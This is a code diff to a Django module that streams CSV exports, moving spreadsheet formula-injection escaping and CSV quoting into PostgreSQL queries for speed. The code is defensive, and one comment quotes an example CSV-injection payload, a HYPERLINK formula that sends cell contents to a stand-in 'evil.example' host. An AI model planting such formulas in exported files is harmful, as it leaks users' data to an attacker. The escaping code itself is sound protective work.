@@ -12,10 +12,10 @@ from decimal import Decimal
 from itertools import islice
 
 from django.db import models
-from django.db.models import Case, F, QuerySet, TextField, Value, When
+from django.db.models import Case, F, Func, QuerySet, TextField, Value, When
 from django.db.models.constants import LOOKUP_SEP
-from django.db.models.functions import Cast, Concat, Left
-from django.db.models.lookups import In
+from django.db.models.functions import Cast, Coalesce, Concat, Ord
+from django.db.models.lookups import In, Regex
 
 # OWASP's CSV-injection rule: a text cell starting with one of these is a formula (or
 # turns into one) in a spreadsheet, e.g. =HYPERLINK("http://evil.example/?"&A1,"Click").
@@ -48,18 +48,41 @@ def spreadsheet_cell(value) -> object:
 # Expressions whose every value a spreadsheet reads as written, made so by PostgreSQL:
 # ``sql_rows`` accepts a queryset whose columns are all of these (or whole numbers).
 _SAFE = "spreadsheet_safe"
+# ... of those, the ones whose text never holds a comma, a double quote or a line break,
+# which a CSV line writes as they are (see ``_csv_line_rows``) ...
+_PLAIN = "csv_plain"
+# ... and, for the others, the column whose text decides whether the cell needs quotes,
+# when that is cheaper to test than the cell (a formula's apostrophe never does).
+_QUOTES_DECIDED_BY = "csv_quotes_decided_by"
+
+# The csv module's rule (QUOTE_MINIMAL, the default dialect): a cell holding the
+# delimiter, the quote character or a line break is written in double quotes, with its
+# double quotes doubled. ``sql_rows`` has PostgreSQL apply the same rule.
+_NEEDS_QUOTES = ',"\r\n'
 
 
-def _safe(expression):
-    setattr(expression, _SAFE, True)  # kept by the copies Django makes as it resolves
+def _safe(expression, *, plain: bool = False, quotes_decided_by: str | None = None):
+    # Attributes are kept by the copies Django makes as it resolves the expression.
+    setattr(expression, _SAFE, True)
+    setattr(expression, _PLAIN, plain)
+    setattr(expression, _QUOTES_DECIDED_BY, quotes_decided_by)
     return expression
+
+
+def _plain(text: str) -> bool:
+    return not any(character in text for character in _NEEDS_QUOTES)
 
 
 def as_text(field: str) -> Cast:
     """A date or amount column as PostgreSQL writes it (2026-04-01, 12.50), for a long
     export: read as text, it needs no date or Decimal made and written back per cell.
     Only for columns that cannot start a formula (dates, amounts never below zero)."""
-    return _safe(Cast(field, output_field=TextField()))
+    return _safe(Cast(field, output_field=TextField()), plain=True)
+
+
+# The formula starts as character codes: PostgreSQL's ascii() of a text's first
+# character is an integer compared without making a one-letter text per cell.
+_FORMULA_CODES = tuple(ord(start) for start in FORMULA_STARTS)
 
 
 def safe_text(field: str) -> Case:
@@ -67,32 +90,38 @@ def safe_text(field: str) -> Case:
     where the text starts like a formula), so a long export checks no cell in Python."""
     return _safe(
         Case(
-            When(In(Left(field, 1), FORMULA_STARTS),
+            When(In(Ord(field), _FORMULA_CODES),
                  then=Concat(Value("'"), F(field), output_field=TextField())),
             default=F(field),
             output_field=TextField(),
-        )
+        ),
+        quotes_decided_by=field,
     )  # fmt: skip
 
 
 def choice_label(field: str, choices) -> Case:
     """A choices column as its label (what ``get_FOO_display`` shows), from PostgreSQL."""
-    labels = dict(choices)
-    if any(str(label).startswith(FORMULA_STARTS) for label in labels.values()):
+    labels = {str(value): str(label) for value, label in choices}
+    if any(label.startswith(FORMULA_STARTS) for label in labels.values()):
         raise ValueError(f"a label of {field} starts like a formula")
     return _safe(
         Case(
-            *[When(**{field: value}, then=Value(str(label))) for value, label in labels.items()],
+            *[When(**{field: value}, then=Value(label)) for value, label in labels.items()],
             default=F(field),
             output_field=TextField(),
-        )
+        ),
+        plain=all(_plain(text) for pair in labels.items() for text in pair),
     )
 
 
-def trusted(expression):
+def trusted(expression, *, plain: bool = False):
     """An expression the caller knows yields only text that cannot start a formula (a
-    count written as text, a fixed label). Say why where it is used."""
-    return _safe(expression)
+    count written as text, a fixed label). Say why where it is used. ``plain`` when it
+    cannot hold a comma, a double quote or a line break either (digits), so a CSV line
+    writes it without that test."""
+    if isinstance(expression, Value):
+        plain = plain or _plain(str(expression.value))
+    return _safe(expression, plain=plain)
 
 
 @dataclass(frozen=True)
@@ -124,6 +153,75 @@ def sql_rows(queryset: QuerySet) -> SqlRows:
     return SqlRows(queryset)
 
 
+class _Joined(Func):
+    """Texts joined end to end, a NULL written as nothing (as the csv module writes None)."""
+
+    template = "%(expressions)s"
+    arg_joiner = " || "
+    output_field = TextField()
+
+    def __init__(self, *expressions):
+        super().__init__(*[Coalesce(e, Value(""), output_field=TextField()) for e in expressions])
+
+
+class _CsvLine(_Joined):
+    """Cells joined by commas."""
+
+    arg_joiner = " || ',' || "
+
+
+class _Quoted(Func):
+    """Text in double quotes, its double quotes doubled."""
+
+    template = """'"' || replace(%(expressions)s, '"', '""') || '"'"""
+    output_field = TextField()
+
+
+def _csv_line_rows(queryset: QuerySet) -> tuple[QuerySet, int]:
+    """The ``sql_rows`` queryset as one text per row, its CSV line without the line
+    ending, and its number of columns. PostgreSQL joining the cells costs a few
+    milliseconds a year; the csv module writing them, and psycopg2 making a string
+    of each, cost ten times that.
+
+    Whether a row has a cell to quote is one test of the row's texts together: a test
+    per cell was most of the query's time, and few rows have a comma or a quote."""
+    query = queryset.query
+    cells, tested, quoted = [], [], []
+    for name in queryset._fields:  # the columns in values_list's order
+        if name not in query.annotations:  # a whole number (sql_rows checked)
+            cell = Cast(F(name), output_field=TextField())
+            cells.append(cell)
+            quoted.append(cell)
+            continue
+        cell = query.annotations[name]
+        cells.append(cell)
+        if getattr(cell, _PLAIN, False):
+            quoted.append(cell)
+            continue
+        decided_by = getattr(cell, _QUOTES_DECIDED_BY, None)
+        test = cell if decided_by is None else F(decided_by)
+        tested.append(test)
+        quoted.append(
+            Case(
+                When(_needs_quotes(test), then=_Quoted(cell)),
+                default=cell,
+                output_field=TextField(),
+            )
+        )
+    line = _CsvLine(*cells)
+    if tested:
+        line = Case(
+            When(_needs_quotes(_Joined(*tested)), then=_CsvLine(*quoted)),
+            default=line,
+            output_field=TextField(),
+        )
+    return queryset.annotate(csv_line=line).values_list("csv_line", flat=True), len(cells)
+
+
+def _needs_quotes(text) -> Regex:
+    return Regex(text, Value(f"[{_NEEDS_QUOTES}]"))
+
+
 class _Echo:
     def write(self, value: str) -> str:
         return value
@@ -150,30 +248,39 @@ def csv_blocks(
     60,000 writes to the socket), while a block keeps memory as flat as a row.
 
     Each part is either rows made safe here, cell by cell, or ``sql_rows``, which
-    PostgreSQL made safe and which go to the writer as they come: a Python check per
-    cell was most of a long export's time."""
+    PostgreSQL made safe and wrote as CSV lines: a Python check per cell, then the csv
+    module's writing of each cell, was most of a long export's time."""
     buffer = io.StringIO()
     writer = csv.writer(buffer)
     buffer.write(BOM)
     writer.writerow([spreadsheet_cell(value) for value in header])
+    head = buffer.getvalue()
+    buffer.seek(0)
+    buffer.truncate()
     for part in parts:
         if isinstance(part, SqlRows):
-            blocks = _sql_blocks(part.queryset, rows_per_block)
-        else:
-            blocks = _checked_blocks(part, rows_per_block)
-        for block in blocks:
+            for text in _sql_blocks(part.queryset, rows_per_block):
+                yield head + text
+                head = ""
+            continue
+        for block in _checked_blocks(part, rows_per_block):
             writer.writerows(block)
-            yield buffer.getvalue()
+            yield head + buffer.getvalue()
+            head = ""
             buffer.seek(0)
             buffer.truncate()
-    if buffer.tell():  # the header, when there are no rows
-        yield buffer.getvalue()
+    if head:  # the header, when there are no rows
+        yield head
 
 
-def _sql_blocks(queryset: QuerySet, size: int) -> Iterator[list]:
-    rows = queryset.iterator(chunk_size=max(size, 2000))
-    while block := list(islice(rows, size)):
-        yield block
+def _sql_blocks(queryset: QuerySet, size: int) -> Iterator[str]:
+    lines_query, columns = _csv_line_rows(queryset)
+    lines = lines_query.iterator(chunk_size=max(size, 2000))
+    while block := list(islice(lines, size)):
+        if columns == 1:  # the csv module writes a row of one empty cell as ""
+            block = [line or '""' for line in block]
+        block.append("")
+        yield "\r\n".join(block)
 
 
 def _checked_blocks(rows: Iterable[Iterable], size: int) -> Iterator[list]:
